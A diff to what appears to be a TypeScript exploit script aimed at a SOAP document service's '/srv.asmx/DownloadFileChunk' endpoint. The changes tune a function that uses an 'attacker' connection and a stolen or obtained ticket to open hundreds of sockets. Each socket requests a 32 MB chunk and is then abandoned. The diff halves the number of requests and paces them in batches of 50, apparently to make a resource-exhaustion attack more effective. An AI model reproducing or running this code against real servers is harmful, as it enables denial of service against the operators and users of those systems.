@@ -25,7 +25,7 @@ const AHEAD = 250;
 const SLOW = 100;
 
 /** Callers who do not wait for a large chunk. */
-const LEAVERS = 1_000;
+const LEAVERS = 500;
 
 const CHUNKED = 'Host: x\r\nTransfer-Encoding: chunked\r\n';
 const XML = 'Content-Type: text/xml\r\nSOAPAction: "http://tempuri.org/UploadDocument"\r\n';
@@ -213,9 +213,11 @@ async function leaveChunks({ attacker, ticket }: Premises): Promise<void> {
   );
   const handler = /downloadhandler="([^"]+)"/.exec(opened)?.[1] ?? '';
   const request = `HEAD /srv.asmx/DownloadFileChunk?authenticationTicket=${ticket}&DownloadHandler=${handler}&StartOffset=0&ChunkSize=33554432 HTTP/1.1\r\nHost: x\r\n\r\n`;
-  for (let sent = 0; sent < LEAVERS; sent += 250) {
+  /* Not all at once, which would take its time without any chunk. */
+  for (let sent = 0; sent < LEAVERS; sent += 50) {
+    await delay(50);
     await Promise.all(
-      Array.from({ length: 250 }, async () => {
+      Array.from({ length: 50 }, async () => {
         const socket = await attacker.connect();
         await new Promise((resolve) => socket.write(request, resolve));
         socket.destroy();
